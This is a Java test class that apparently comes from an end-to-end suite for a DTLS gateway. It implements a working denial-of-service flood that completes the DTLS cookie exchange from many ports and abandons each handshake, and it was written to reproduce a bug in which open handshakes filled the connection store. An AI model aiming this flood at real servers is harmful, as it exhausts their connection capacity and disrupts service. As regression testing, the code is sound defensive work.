package org.homeward.gateway.e2e;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * A raw-UDP attacker that completes the DTLS cookie exchange and then walks away: each round, from
 * {@code sockets} fresh local ports of one address, it sends a CLIENT_HELLO, reads the HelloVerifyRequest,
 * sends the CLIENT_HELLO again with the cookie, and never answers the server's flight. Each such
 * hello makes the server create a connection and start a handshake that stays open until its
 * retransmissions give up (issue 15: 21,000 of them filled the 20,000-connection store).
 *
 * <p>Offers plain PSK suites only (no extensions), so the server answers with ServerHello and waits.
 * Single-threaded; bounded: each call does one exchange per socket.
 */
final class DtlsCookieFlood {
    private static final int HANDSHAKE = 22;
    private static final int HELLO_VERIFY_REQUEST = 3;
    private static final int SERVER_HELLO = 2;
    private static final byte[] PSK_SUITES = {0, 4, (byte) 0xc0, (byte) 0xa8, 0, (byte) 0xae};

    private final String bindAddress;
    private final InetSocketAddress server;
    private final int perRound;
    private final Random random = new Random(15);
    private final java.util.concurrent.atomic.AtomicLong cookieHellos = new java.util.concurrent.atomic.AtomicLong();

    DtlsCookieFlood(String bindAddress, InetSocketAddress server, int socketsPerRound) {
        this.bindAddress = bindAddress;
        this.server = server;
        this.perRound = socketsPerRound;
    }

    /**
     * One cookie-completing CLIENT_HELLO from every socket; returns how many the server answered with a
     * ServerHello (each of them a connection the server created and a handshake it keeps open).
     */
    int round() throws IOException {
        List<DatagramSocket> sockets = new ArrayList<>();
        try {
            for (int i = 0; i < perRound; i++) {
                DatagramSocket s = new DatagramSocket(new InetSocketAddress(bindAddress, 0));
                s.setSoTimeout(500);
                sockets.add(s);
            }
            return exchange(sockets);
        } finally {
            sockets.forEach(DatagramSocket::close); // the server keeps each handshake open regardless
        }
    }

    private int exchange(List<DatagramSocket> sockets) throws IOException {
        List<byte[]> randoms = new ArrayList<>();
        for (DatagramSocket s : sockets) {
            byte[] r = new byte[32];
            random.nextBytes(r);
            randoms.add(r);
            send(s, clientHello(r, new byte[0]));
        }
        for (int i = 0; i < sockets.size(); i++) {
            byte[] cookie = cookie(sockets.get(i));
            if (cookie != null) {
                send(sockets.get(i), clientHello(randoms.get(i), cookie));
                cookieHellos.incrementAndGet();
            }
        }
        int answered = 0;
        for (DatagramSocket s : sockets) {
            if (awaitServerHello(s)) {
                answered++;
            }
        }
        return answered;
    }

    /** CLIENT_HELLOs with a valid cookie sent so far (any thread may ask). */
    long cookieHellos() {
        return cookieHellos.get();
    }

    private void send(DatagramSocket s, byte[] datagram) throws IOException {
        s.send(new DatagramPacket(datagram, datagram.length, server));
    }

    /** The cookie of the next HelloVerifyRequest on {@code s}, or null if none came. */
    private static byte[] cookie(DatagramSocket s) throws IOException {
        byte[] d = awaitHandshake(s, HELLO_VERIFY_REQUEST);
        if (d == null || d.length < 28) {
            return null;
        }
        int length = d[27] & 0xff;
        byte[] cookie = new byte[Math.min(length, d.length - 28)];
        System.arraycopy(d, 28, cookie, 0, cookie.length);
        return cookie;
    }

    private static boolean awaitServerHello(DatagramSocket s) throws IOException {
        return awaitHandshake(s, SERVER_HELLO) != null;
    }

    /** The next datagram on {@code s} whose first record is a handshake message of {@code type}; null if none came. */
    private static byte[] awaitHandshake(DatagramSocket s, int type) throws IOException {
        byte[] buf = new byte[4096];
        for (int tries = 0; tries < 4; tries++) {
            DatagramPacket p = new DatagramPacket(buf, buf.length);
            try {
                s.receive(p);
            } catch (SocketTimeoutException e) {
                return null;
            }
            if (p.getLength() > 13 && (buf[0] & 0xff) == HANDSHAKE && (buf[13] & 0xff) == type) {
                return java.util.Arrays.copyOf(buf, p.getLength());
            }
        }
        return null;
    }

    /** A DTLS 1.2 CLIENT_HELLO record (message_seq 0 without cookie, 1 with one), no extensions. */
    static byte[] clientHello(byte[] random, byte[] cookie) {
        ByteBuffer body = ByteBuffer.allocate(2 + 32 + 1 + 1 + cookie.length + PSK_SUITES.length + 2);
        body.put((byte) 0xfe).put((byte) 0xfd).put(random).put((byte) 0) // no session id
                .put((byte) cookie.length).put(cookie).put(PSK_SUITES).put((byte) 1).put((byte) 0);
        byte[] m = body.array();
        int seq = cookie.length == 0 ? 0 : 1;
        ByteBuffer b = ByteBuffer.allocate(13 + 12 + m.length);
        b.put((byte) HANDSHAKE).put((byte) 0xfe).put((byte) 0xfd).putShort((short) 0) // epoch 0
                .putShort((short) 0).putInt(seq).putShort((short) (12 + m.length));
        b.put((byte) 1).put((byte) 0).putShort((short) m.length).putShort((short) seq) // CLIENT_HELLO
                .put(new byte[3]).put((byte) 0).putShort((short) m.length).put(m);
        return b.array();
    }
}
